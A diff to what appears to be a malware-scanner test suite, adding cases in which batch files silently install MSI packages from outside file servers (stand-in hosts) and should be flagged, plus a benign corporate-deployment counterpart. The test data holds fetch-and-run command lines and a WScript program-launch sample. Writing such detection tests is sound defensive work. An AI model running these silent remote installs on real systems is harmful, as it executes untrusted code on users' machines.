@@ -46,6 +46,10 @@ suite('a script that starts programs', () => {
       'Script.Program',
     )
   })
+  test('from a file server outside', () => {
+    for (const server of ['files.example', '203.0.113.5', 'a.corp.example.com@80'])
+      has(packed('a.bat', `@echo off\r\nmsiexec /q /i \\\\${server}\\a\\b.msi\r\n`), 'Script.Program')
+  })
   test('in JavaScript', () =>
     has(packed('a.js', 'var s = WScript.CreateObject("WScript.Shell"); s.Run("calc")'), 'Script.Program'))
   test('in obfuscated JavaScript', () => {
@@ -306,6 +310,13 @@ suite('harmless', () => {
       packed(
         'deploy.ps1',
         'param($Target)\n$env:PATH\nInvoke-WebRequest -Uri https://example.com/a.zip -OutFile a.zip\nExpand-Archive a.zip\n',
+      ),
+    ],
+    [
+      'a script that installs from the server of a company',
+      packed(
+        'client.bat',
+        '@echo off\r\nset SRC=\\\\deploy01.corp.example.com\\erp\r\nmsiexec /i "%SRC%\\client.msi" /qn /l*v %TEMP%\\a.log\r\n',
       ),
     ],
     [
